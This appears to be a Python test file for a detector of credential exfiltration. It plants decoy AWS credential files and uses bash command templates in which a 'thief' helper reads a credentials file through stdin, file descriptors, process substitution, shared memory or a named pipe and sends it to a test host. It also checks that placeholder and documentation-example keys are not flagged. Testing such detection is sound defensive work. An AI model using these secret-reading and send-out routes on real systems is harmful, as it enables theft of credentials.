# SPDX-License-Identifier: Apache-2.0
"""Keys that are there to mislead, and texts that are no keys. Right: the true key is taken, the decoy never named for
certain."""
from attack import ANY, CREDENTIALS, FREE, NAMED, PYTHON, THIEF, Attack, Right

EXAMPLE = {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",  # of AWS's own documentation
           "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}


class Decoys(Attack):
    def among(self, files, entries):
        decoys = []
        for number in range(files):
            text = "".join(self.maker.aws().profile(f"p{entry}") for entry in range(entries))
            self.more[f"decoys{number}/.aws/credentials"] = (text, 0o600)
            decoys += ["take", "open", f"/srv/decoys{number}/.aws/credentials"]
        self.thief(*decoys, "take", "open", CREDENTIALS, "out", "plain", self.host)
        return Right(taken=True, used=("possible",), listed=False)

    def attack_one_key_of_many(self):
        return self.among(1, 20)

    def attack_as_many_as_a_file_may_have(self):
        return self.among(1, 256)

    def attack_more_than_a_process_may_hold(self):
        return self.among(2, 256)


class Rivals(Attack):
    """A key comes by a way that is no open of the program's own; another that fits stands in its environment."""
    def beside(self, line, secret=CREDENTIALS, **right):
        """`line` is a shell's: `run` starts the thief, `out` is what it does after its take."""
        run, out = f"{PYTHON} -I {THIEF} take", f"out plain {self.host}"
        self.start(["/bin/bash", "-c", line.format(run=run, out=out, key=secret, free=FREE) + "; exit $?"],
                   env=self.maker.aws().env(), binds=self.disk())
        return Right(used=("possible",), **right)

    def attack_as_standard_input(self):
        return self.beside("{run} stdin - {out} < {key}")

    def attack_as_standard_input_of_a_program_in_place(self):
        return self.beside("exec {run} stdin - {out} < {key}")

    def attack_as_another_descriptor(self):
        return self.beside("exec 3< {key}; {run} descriptor - {out}")

    def attack_as_standard_input_that_a_program_gives(self):
        return self.beside("{run} given {key} {out}")

    def attack_as_a_substitution(self):
        return self.beside("{run} open <(cat {key}) {out}")

    def attack_as_a_here_text(self):
        return self.beside('{run} stdin - {out} <<< "$(cat {key})"')

    def attack_in_a_file_that_is_made_for_it(self):
        return self.beside("{run} temporary {key} {out}")

    def attack_in_shared_memory(self):
        return self.beside("cat {key} > /dev/shm/$$; {run} open /dev/shm/$$ {out}; rm /dev/shm/$$")

    def attack_through_a_named_pipe(self):
        return self.beside("mkfifo {free}/pipe; cat {key} > {free}/pipe & {run} fifo {free}/pipe {out}")

    def attack_a_secret_that_nobody_knows_as_standard_input(self):
        self.more["unknown"] = (self.maker.token(40) + "\n", 0o600)
        self.true = ""
        return self.beside("{run} stdin - {out} < {key}", "/srv/unknown", listed=False, reason="unidentified_file")


class Dummies(Attack):
    def attack_documentation_example_beside_the_true_key(self):
        self.thief("take", "open", CREDENTIALS, "out", "plain", self.host, env=EXAMPLE)
        return Right(taken=True, used=NAMED)

    def alone(self, host, env):
        """Nothing of this is a key: whatever is sent, no key is named."""
        self.true, self.host = "", host
        self.thief("out", "plain", self.host, env=env)
        return Right(used=ANY, listed=False)

    def attack_documentation_example_alone(self):
        return self.alone(self.host, EXAMPLE)

    def attack_placeholder(self):
        return self.alone("api.github.com", {"GITHUB_TOKEN": "placeholder"})

    def attack_words_in_angles(self):
        return self.alone("api.github.com", {"GITHUB_TOKEN": "<your-github-token-goes-here>"})

    def attack_reference(self):
        return self.alone("api.github.com", {"GITHUB_TOKEN": "op://Prod/github/token-of-the-team"})

    def attack_command_instead_of_a_value(self):
        return self.alone("api.openai.com", {"OPENAI_API_KEY": "$(pass show openai/production-key)"})
